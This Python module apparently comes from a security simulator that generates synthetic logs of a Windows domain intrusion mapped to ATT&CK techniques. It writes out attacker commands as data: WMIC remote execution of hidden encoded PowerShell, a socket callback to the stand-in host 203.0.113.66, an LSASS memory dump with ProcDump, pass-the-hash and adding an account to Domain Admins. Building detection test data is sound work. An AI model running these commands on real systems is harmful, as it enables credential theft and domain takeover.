"""From a workstation to a server by WMI, from there to the rights of a domain administrator."""

from tocsin.sources.simulator import deeds, directory
from tocsin.sources.simulator.actors import HIGH, KERBEROS, NEW_CREDENTIALS
from tocsin.sources.simulator.attack import Move, Playing
from tocsin.sources.simulator.directory import DOMAIN_ADMINS
from tocsin.sources.simulator.fleet import Host
from tocsin.sources.simulator.scripts import encoded_command

MOVES = (
    Move("WMIC starts a process on a server", "TA0002", "T1047"),
    Move("The server's WMI host starts encoded PowerShell", "TA0002", "T1059.001"),
    Move("Its output comes back through an administrative share", "TA0002", "T1047"),
    Move("Which computers has the domain", "TA0007", "T1018"),
    Move("ProcDump writes the memory of LSASS", "TA0006", "T1003.001"),
    Move("A stolen hash becomes a logon", "TA0008", "T1550.002"),
    Move("The stolen account logs on to a domain controller", "TA0008", "T1021.002", "correlation"),
    Move("An account joins the domain administrators", "TA0003", "T1098.007"),
)

_STACK = (
    b"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2d0fe|"
    b"C:\\\\Windows\\\\Temp\\\\procdump64.exe+1dd2e"
)


def play(playing: Playing) -> None:
    """Write the whole scenario."""
    fleet = playing.fleet
    origin = playing.pick(fleet.workstations or fleet.hosts, "origin")
    server = playing.pick(fleet.servers, "server")
    _to_the_server(playing, origin, server)
    _to_the_domain(playing, server, playing.pick(fleet.controllers, "controller"))


def _to_the_server(playing: Playing, origin: Host, server: Host) -> None:
    shell = playing.start(0, origin, playing.desktop_of(origin, 400), "cmd", '"C:\\Windows\\system32\\cmd.exe" ')
    payload = encoded_command("$s = New-Object Net.Sockets.TCPClient('203.0.113.66', 443); $t = $s.GetStream()")
    playing.begin(MOVES, 1)
    remote = f'wmic  /node:{server.name} process call create "powershell -nop -w hidden -enc {payload}"'
    wmic = playing.start(30, origin, shell, "wmic", remote)
    playing.connect(30.4, origin, wmic, server.address.decode(), 135)
    playing.pause()
    admin = playing.fleet.admins[playing.number % len(playing.fleet.admins)]
    session = playing.recorder.logged_on(
        playing.at(31), server, admin, KERBEROS, address=origin.address, integrity=HIGH
    )
    launcher = playing.residents.resident_of(server).launcher
    host = playing.start(
        31.5, server, launcher, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
    )
    playing.begin(MOVES, 2)
    shell = playing.start(32, server, host, "powershell", f"powershell -nop -w hidden -enc {payload}", session)
    playing.connect(33, server, shell, "203.0.113.66", 443)
    playing.begin(MOVES, 3)
    output = f"\\\\127.0.0.1\\ADMIN$\\__17683{playing.number}.44"
    playing.start(90, server, host, "cmd", f"cmd.exe /Q /c hostname 1> {output} 2>&1", session)
    playing.begin(MOVES, 4)
    found = 'C:\\ProgramData\\AdFind.exe  -f "(objectcategory=computer)" -csv name cn operatingSystem'
    playing.start(400, server, shell, "adfind", found)
    playing.begin(MOVES, 5)
    dump = f"C:\\Windows\\Temp\\procdump64.exe  -accepteula -ma lsass.exe C:\\Windows\\Temp\\l{playing.number}.dmp"
    tool = playing.start(800, server, shell, "procdump", dump)
    lsass = playing.residents.resident_of(server).lsass
    deeds.process_accessed(playing.recorder, playing.at(800.5), server, tool, lsass, b"0x1fffff", _STACK)
    playing.create_file(801, server, tool, f"C:\\Windows\\Temp\\l{playing.number}.dmp")
    playing.begin(MOVES, 6)
    playing.recorder.logged_on(
        playing.at(1300), server, admin, NEW_CREDENTIALS, address=b"::1", integrity=HIGH, by=session
    )
    playing.pause()


def _to_the_domain(playing: Playing, server: Host, controller: Host) -> None:
    recorder = playing.recorder
    admin = playing.fleet.admins[(playing.number + 2) % len(playing.fleet.admins)]
    playing.begin(MOVES, 7)
    session = recorder.logged_on(playing.at(1400), controller, admin, KERBEROS, address=server.address, integrity=HIGH)
    playing.begin(MOVES, 8)
    launcher = playing.residents.resident_of(controller).launcher
    host = playing.start(
        1401, controller, launcher, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
    )
    add = 'group "Domain Admins" svc_deploy /add /domain'
    net = playing.start(1402, controller, host, "net", f"net  {add}", session)
    playing.start(1402.2, controller, net, "net1", f"C:\\Windows\\system32\\net1  {add}")
    directory.global_member_added(
        recorder, playing.at(1402.4), controller, session, playing.fleet.services[4], *DOMAIN_ADMINS
    )
    playing.pause()
    recorder.logged_off(playing.at(1410), controller, session, KERBEROS)
